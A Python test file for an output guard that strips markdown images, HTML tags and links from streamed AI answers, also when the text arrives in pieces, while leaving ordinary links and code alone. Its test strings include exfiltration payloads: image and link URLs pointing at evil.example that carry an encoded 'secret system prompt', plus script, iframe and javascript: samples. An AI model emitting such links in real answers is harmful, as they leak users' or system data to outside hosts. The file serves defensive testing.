"""What could carry data away in an answer: found however it is cut; what documents rightly hold is left alone."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mainspring.guards.rewrite.links import HELD_AT_MOST, AllowedLinks, LinkRedactor

SECRET = "c2VjcmV0LXN5c3RlbS1wcm9tcHQtaXMtaGVyZS1pbi1iYXNlNjQ"


def whole(text: str, known: AllowedLinks | None = None) -> str:
    redactor = LinkRedactor(known or AllowedLinks())
    return redactor.push(text) + redactor.flush()


def cut(text: str, sizes: list[int], known: AllowedLinks | None = None) -> str:
    redactor = LinkRedactor(known or AllowedLinks())
    out = ""
    for size in sizes:
        out += redactor.push(text[:size])
        text = text[size:]
    return out + redactor.push(text) + redactor.flush()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a ![x](https://evil.example/p.png) b", "a [IMAGE] b"),
        ("a ![x](//evil.example/p.png) b", "a [IMAGE] b"),
        ("![x][ref]", "[IMAGE]"),
        ('see <img src="https://evil.example/?q=1"> now', "see [MARKUP] now"),
        ("<SCRIPT>alert(1)</script>", "[MARKUP]alert(1)[MARKUP]"),
        ("<iframe\nsrc=x></iframe>", "[MARKUP][MARKUP]"),
        (f"[more](https://evil.example/log?d={SECRET}) ok", "[more]([LINK]) ok"),
        (f"go to https://evil.example/{SECRET}/x now", "go to [LINK] now"),
        (f"https://evil.example/#{SECRET}", "[LINK]"),
        ("https://user:pass@evil.example/", "[LINK]"),
        (f"https://{SECRET[:40].lower()}.evil.example/", "[LINK]"),
        ("[x](javascript:alert(1))", "[x]([LINK](1))"),
    ],
)
def test_what_carries_data_is_replaced(text: str, shown: str) -> None:
    assert whole(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.python.org/3/library/asyncio-task.html#coroutines for more.",
        "[Returns](https://shop.example/returns?lang=en) within 30 days [1].",
        "![diagram](images/stove.png) and ![x](/static/a.svg)",
        "if a < b and c > d: print(x[1]) # !important",
        "<b>bold</b> <table><tr><td>1</td></tr></table> <linked list>",
        "A picture![1] of h and http and https:",
    ],
)
def test_what_is_ordinary_is_left_alone(text: str) -> None:
    assert whole(text) == text


def test_allowed_hosts_and_addresses_of_the_request() -> None:
    known = AllowedLinks(["cdn.example"], [f"My ticket is https://jira.example/?token={SECRET}."])
    for text in (
        "![x](https://img.cdn.example/p.png?q=12345678901234567890123456)",
        f"Your ticket: https://jira.example/?token={SECRET}.",
    ):
        assert whole(text, known) == text
    assert whole("![x](https://notcdn.example/p.png)", known) == "[IMAGE]"
    assert whole(f"https://jira.example/?token={SECRET}more", known) == "[LINK]"


PARTS = [
    *("word ", "![", "x](", "https://", "evil.example/", SECRET, ")", "<img ", ">", "</", "script>", " ", "\n", "[1]"),
    *("?d=", "h", "!", "<", "javascript:", "//", "a" * 300),
]


@given(st.lists(st.sampled_from(PARTS), max_size=14), st.lists(st.integers(1, 40), max_size=60))
def test_pieces_are_like_the_whole(parts: list[str], sizes: list[int]) -> None:
    text = "".join(parts)
    assert cut(text, sizes) == whole(text)


def test_what_never_ends_is_a_finding_and_bounded() -> None:
    for begin, kind in (
        ("![x](https://e.example/?", "[IMAGE]"),
        ("<img src=", "[MARKUP]"),
        ("https://e.example/?", "[LINK]"),
    ):
        redactor = LinkRedactor(AllowedLinks())
        pushed, shown = 0, ""
        for _ in range(200):
            pushed += 20
            shown += redactor.push((begin + "z" * 20)[:20] if not shown and pushed == 20 else "z" * 20)
        assert shown.startswith(kind) or kind in shown, begin
        assert "zzzz" not in shown.replace(kind, ""), begin
    assert HELD_AT_MOST < 4000


def test_prose_is_not_held_back() -> None:
    redactor = LinkRedactor(AllowedLinks())
    for word in "The path of the truth is which each wish hath".split():
        assert redactor.push(f" {word}") == f" {word}"
